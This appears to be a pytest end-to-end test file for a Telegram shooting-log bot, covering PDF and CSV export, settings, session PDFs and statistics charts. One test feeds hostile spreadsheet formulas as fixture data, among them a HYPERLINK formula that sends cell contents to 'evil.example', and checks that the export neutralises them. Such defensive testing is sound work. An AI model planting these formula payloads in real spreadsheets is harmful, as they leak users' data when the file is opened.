"""End to end: /export returns the shooting log as documents, the export fields in /settings, the session
card's PDF and the /stats charts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import struct
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader

from bot.app import AimTrackApplication
from bot.emulator import BotApiEmulator
from bot.emulator.driver import MessageView
from services.attachments import store_bytes
from services.preferences import zone_of
from storage.attachments import add_attachment
from storage.db import Database
from storage.models import AttachableType, Competition, SessionWeaponEntry, ShootingSession, User, Weapon
from tests.conftest import ALICE, BOB

NOW = dt.datetime(2026, 6, 15, 10, 0, tzinfo=dt.UTC)


@pytest.fixture(autouse=True)
def fixed_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    def today_in(zone: str | None) -> dt.date:
        return NOW.astimezone(zone_of(zone)).date()

    monkeypatch.setattr("handlers.context.today_in", today_in)


def labels(message: MessageView) -> list[str]:
    return [label for row in message.buttons for label, _ in row]


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


async def seed(db: Database, user_id: int, **user_values: object) -> dict[str, int]:
    """A Glock and a retired Anschütz; five sessions in 2026 (one a KNSA match), one in 2025."""
    async with db.session() as s:
        s.add(User(id=user_id, display_name="Alice van Dijk", **user_values))
        await s.flush()
        glock = Weapon(user_id=user_id, name="Glock 17", type="pistol", caliber="9mm", serial_number="GX-1")
        old = Weapon(
            user_id=user_id, name="Anschütz", type="rifle", caliber=".22 LR", retired_at=dt.date(2026, 5, 1)
        )
        s.add_all([glock, old])
        await s.flush()
        days = [dt.date(2026, 1, 10), dt.date(2026, 2, 10), dt.date(2026, 3, 10), dt.date(2026, 3, 24)]
        rows = []
        for number, day in enumerate([*days, dt.date(2026, 4, 7), dt.date(2025, 11, 1)]):
            row = ShootingSession(
                user_id=user_id,
                date=day,
                club="SV De Roos",
                location="Utrecht",
                competition=Competition.KNSA if number == 1 else Competition.NONE,
            )
            row.entries = [
                SessionWeaponEntry(
                    weapon_id=glock.id, distance_m=25, shot_count=50, ammo_caliber="9mm", score=440 + number
                )
            ]
            if number == 2:
                row.entries.append(
                    SessionWeaponEntry(weapon_id=old.id, distance_m=50, shot_count=30, ammo_caliber=".22 LR")
                )
            rows.append(row)
        s.add_all(rows)
        await s.flush()
        return {"glock": glock.id, "old": old.id, "session": rows[2].id}


async def test_export_this_year_as_pdf_and_csv(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database
) -> None:
    await seed(db, ALICE, licence_number="KNSA-777", csv_separator=";")
    await seed(db, BOB)  # Bob's sessions never reach Alice's export
    alice = emulator.user(ALICE, first_name="Alice")
    periods = await alice.ask("/export")
    assert labels(periods) == ["Last 12 months", "This year", "Last year", "📅 Other dates"]
    await alice.tap(periods, "This year")
    weapons = await alice.next_edit()
    assert "1 Jan 2026 – 31 Dec 2026, 5 session(s)" in weapons.text
    assert labels(weapons) == ["✅ 🗄 Anschütz", "✅ Glock 17", "Next ▶"], "retired ones too, all selected"
    await alice.tap(weapons, "Next ▶")
    formats = await alice.next_edit()
    await alice.tap(formats, "PDF + CSV")
    pdf_message, csv_message = await alice.next_message(), await alice.next_message()
    assert "upload_document" in alice.chat_actions

    pdf = pdf_message.document
    assert (pdf.name, pdf.mime) == ("aimtrack-schietlog-2026-01-01_2026-12-31.pdf", "application/pdf")
    text = pdf_text(pdf.data)
    assert "Shooter: Alice\n" in text and "KNSA licence number: KNSA-777" in text
    assert text.count("Glock 17 · Pistol · 9mm · SN GX-1") == 5 + 1, "five rows and the total"
    assert "Anschütz · Rifle · .22 LR" in text and "yes, KNSA" in text
    assert "All sessions 5 280" in text
    assert "from 1 Jan 2026 to 31 Dec 2026: 5 of 18. ✗ not met" in text
    assert "2026: KNSA ranking matches 1 of 3" in text
    official = "The official proof of your shooting sessions is your club's register or your KNSA record."
    assert official in text.replace("\n", " ")

    document = csv_message.document
    assert document.name == "aimtrack-schietlog-2026-01-01_2026-12-31.csv"
    rows = list(csv.DictReader(io.StringIO(document.data.decode("utf-8-sig")), delimiter=";"))
    assert [(r["date"], r["weapon"], r["shot_count"]) for r in rows] == [
        ("2026-01-10", "Glock 17", "50"),
        ("2026-02-10", "Glock 17", "50"),
        ("2026-03-10", "Glock 17", "50"),
        ("2026-03-10", "Anschütz", "30"),
        ("2026-03-24", "Glock 17", "50"),
        ("2026-04-07", "Glock 17", "50"),
    ]


async def test_custom_dates_and_one_weapon(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database
) -> None:
    await seed(db, ALICE)
    alice = emulator.user(ALICE, first_name="Alice")
    await alice.tap(await alice.ask("/export"), "📅 Other dates")
    assert "first day" in (await alice.next_edit()).text
    assert "next tuesday" in (await alice.ask("next tuesday")).text
    assert "From 1 Mar 2026" in (await alice.ask("1-3-2026")).text
    assert "cannot be before the first day (1 Mar 2026)" in (await alice.ask("28-2-2026")).text
    weapons = await alice.ask("31-3-2026")
    assert "2 session(s)" in weapons.text
    await alice.tap(weapons, "✅ Glock 17")
    weapons = await alice.next_edit()
    assert labels(weapons)[:2] == ["✅ 🗄 Anschütz", "⬜ Glock 17"]
    await alice.tap(weapons, "x", data="ex:w:99999")  # not Alice's weapon: nothing changes
    await alice.tap(weapons, "Next ▶")
    await alice.tap(await alice.next_edit(), "📊 CSV (Excel)")
    document = (await alice.next_message()).document
    assert document.name == "aimtrack-schietlog-2026-03-01_2026-03-31.csv"
    rows = list(csv.DictReader(io.StringIO(document.data.decode("utf-8-sig"))))
    assert [(r["date"], r["weapon"]) for r in rows] == [("2026-03-10", "Anschütz")]
    assert "That button is no longer valid." in [a.get("text") for a in alice.callback_answers]


async def test_a_period_without_sessions_sends_no_file(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database
) -> None:
    await seed(db, ALICE)
    alice = emulator.user(ALICE, first_name="Alice")
    await alice.tap(await alice.ask("/export"), "Last year")
    await alice.tap(await alice.next_edit(), "Next ▶")
    await alice.tap(await alice.next_edit(), "📄 PDF")
    assert (await alice.next_message()).document is not None, "2025 has one session"

    await alice.tap(await alice.ask("/export"), "📅 Other dates")
    await alice.next_edit()
    await alice.ask("1-1-2020")
    empty = await alice.ask("31-12-2020")
    assert empty.text.startswith("There are no sessions in your log from 1 Jan 2020 to 31 Dec 2020")
    await emulator.settle()
    assert [m.document is not None for m in alice.messages].count(True) == 1


async def test_the_licence_number_and_csv_separator_in_settings(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database
) -> None:
    alice = emulator.user(ALICE, first_name="Alice")
    settings = await alice.ask("/settings")
    assert "KNSA licence number: not set" in settings.text and "CSV separator: , (comma)" in settings.text
    await alice.tap(settings, "📊 CSV separator: , (comma)")
    assert "CSV separator: ; (semicolon" in (await alice.next_edit()).text
    await alice.tap(settings, "🪪 KNSA licence number")
    await alice.next_message()
    assert "1 to 32 characters" in (await alice.ask("x" * 33)).text
    confirmation = await alice.ask("  KNSA 123456 ")
    assert "KNSA licence number set to KNSA 123456." in confirmation.text
    async with db.session() as s:
        row = await s.get_one(User, ALICE)
        assert (row.licence_number, row.csv_separator) == ("KNSA 123456", ";")
    await alice.tap(confirmation, "🪪 KNSA licence number")
    await alice.tap(await alice.next_message(), "🗑 Clear")
    assert "KNSA licence number cleared." in (await alice.next_edit()).text
    async with db.session() as s:
        assert (await s.get_one(User, ALICE)).licence_number is None


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


async def test_the_session_card_sends_a_one_page_pdf_with_its_photo(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database, data_dir: Path
) -> None:
    ids = await seed(db, ALICE)
    bobs = await seed(db, BOB)
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "red").save(buffer, format="PNG")
    stored = store_bytes(data_dir, buffer.getvalue(), "image/png")
    scan = store_bytes(data_dir, b"%PDF-1.4 not an image", "application/pdf")
    async with db.session() as s:
        for file in (stored, scan):
            await add_attachment(
                s,
                ALICE,
                AttachableType.SESSION,
                ids["session"],
                path=file.path,
                sha256=file.sha256,
                mime=file.mime,
                size=file.size,
                original_name=None,
                telegram_file_id=None,
            )
    alice = emulator.user(ALICE, first_name="Alice")
    await alice.tap(await alice.ask("/sessions"), "x", data=f"ss:card:{ids['session']}")
    card = await alice.next_edit()
    await alice.tap(card, "📄 PDF")
    document = (await alice.next_message()).document
    assert document.name == f"aimtrack-sessie-2026-03-10-{ids['session']}.pdf"
    reader = PdfReader(io.BytesIO(document.data))
    assert len(reader.pages) == 1 and len(reader.pages[0].images) == 1
    text = reader.pages[0].extract_text()
    assert "Session of 10 Mar 2026" in text and "Anschütz" in text and "SV De Roos" in text

    await alice.tap(card, "x", data=f"ss:pdf:{bobs['session']}")
    await emulator.settle()
    assert alice.callback_answers[-1].get("text") == "That session does not exist (any more)."
    assert [m.document is not None for m in alice.messages].count(True) == 1


async def test_stats_sends_charts(bot: AimTrackApplication, emulator: BotApiEmulator, db: Database) -> None:
    ids = await seed(db, ALICE)
    bobs = await seed(db, BOB)
    alice = emulator.user(ALICE, first_name="Alice")
    menu = await alice.ask("/stats")
    assert labels(menu) == ["🎯 Scores", "🔫 Rounds per month", "📅 Attendance"]
    await alice.tap(menu, "🎯 Scores")
    weapons = await alice.next_edit()
    assert labels(weapons) == ["Glock 17", "« Charts"], "only weapons with a score"
    await alice.tap(weapons, "Glock 17")
    chart = await alice.next_message()
    assert png_size(chart.photo) == (1000, 600) and "Glock 17 at 25 m: 6 session(s)" in chart.caption
    await alice.tap(weapons, "« Charts")
    assert labels(await alice.next_edit()) == labels(menu)
    await alice.tap(menu, "🔫 Rounds per month")
    rounds = await alice.next_message()
    assert png_size(rounds.photo) == (1000, 600) and "330 in all" in rounds.caption, "Jul 2025 to Jun 2026"
    await alice.tap(menu, "📅 Attendance")
    attendance = await alice.next_message()
    assert png_size(attendance.photo) == (1000, 600) and "6 of 18 session days" in attendance.caption
    assert "upload_photo" in alice.chat_actions

    await alice.tap(menu, "x", data=f"st:sc:{bobs['glock']}")
    await alice.tap(menu, "x", data=f"st:sc:{ids['glock']}:999")
    await alice.tap(menu, "x", data="st:sc:abc")
    await emulator.settle()
    assert [a.get("text") for a in alice.callback_answers[-3:]] == [
        "That weapon has no scores (any more).",
        "That weapon has no scores (any more).",
        "That button is no longer valid.",
    ]
    assert len([m for m in alice.messages if m.photo]) == 3


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database
) -> None:
    """OWASP's CSV injection advice: a text cell starting with =, +, -, @, tab or CR gets a leading quote;
    numbers stay numbers (a negative one too: tests/test_export_service.py)."""
    hostile = {
        "club": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "location": "+31 20 123",
        "discipline": "-2+3",
        "weather": "@SUM(1+1)",
        "raw_notes": "\t=1+1",
        "ammo_brand": "\r=cmd",
    }
    async with db.session() as s:
        s.add(User(id=ALICE, display_name="Alice"))
        await s.flush()
        weapon = Weapon(user_id=ALICE, name="=1+2", type="pistol", caliber="9mm", serial_number="-GX")
        s.add(weapon)
        await s.flush()
        row = ShootingSession(user_id=ALICE, date=dt.date(2026, 3, 10), **hostile)
        row.entries = [
            SessionWeaponEntry(
                weapon_id=weapon.id,
                distance_m=25,
                shot_count=50,
                ammo_caliber="9mm",
                score=441,
                grouping_note="a - in the middle is fine",
            )
        ]
        s.add(row)
    alice = emulator.user(ALICE, first_name="Alice")
    await alice.tap(await alice.ask("/export"), "This year")
    await alice.tap(await alice.next_edit(), "Next ▶")
    await alice.tap(await alice.next_edit(), "📊 CSV (Excel)")
    document = (await alice.next_message()).document
    [cells] = list(csv.DictReader(io.StringIO(document.data.decode("utf-8-sig"), newline="")))
    for column, value in hostile.items():
        assert cells[column.removeprefix("raw_")] == "'" + value, column
    assert (cells["weapon"], cells["serial_number"]) == ("'=1+2", "'-GX")
    assert cells["score"] == "441"
    assert cells["grouping_note"] == "a - in the middle is fine"
    assert cells["date"] == "2026-03-10" and cells["shot_count"] == "50"


@pytest.mark.parametrize(
    ("language", "question"), [("en", "Which period?"), ("nl", "Welke periode?")], ids=["en", "nl"]
)
async def test_export_typed_in_the_middle_of_an_export_starts_it_over(
    bot: AimTrackApplication, emulator: BotApiEmulator, db: Database, language: str, question: str
) -> None:
    """Not "I didn't catch that": the period question again, and what was chosen before is forgotten."""
    await seed(db, ALICE)
    alice = emulator.user(ALICE, first_name="Alice", language_code=language)
    periods = await alice.ask("/export")
    await alice.tap(periods, labels(periods)[1])  # this year
    weapons = await alice.next_edit()
    await alice.tap(weapons, labels(weapons)[1])  # one weapon unticked
    await alice.next_edit()

    again = await alice.ask("/export")
    assert question in again.text
    assert labels(again) == labels(periods)
    await alice.tap(again, labels(again)[1])
    fresh = await alice.next_edit()
    assert labels(fresh) == labels(weapons), "every weapon selected again, as at the start"
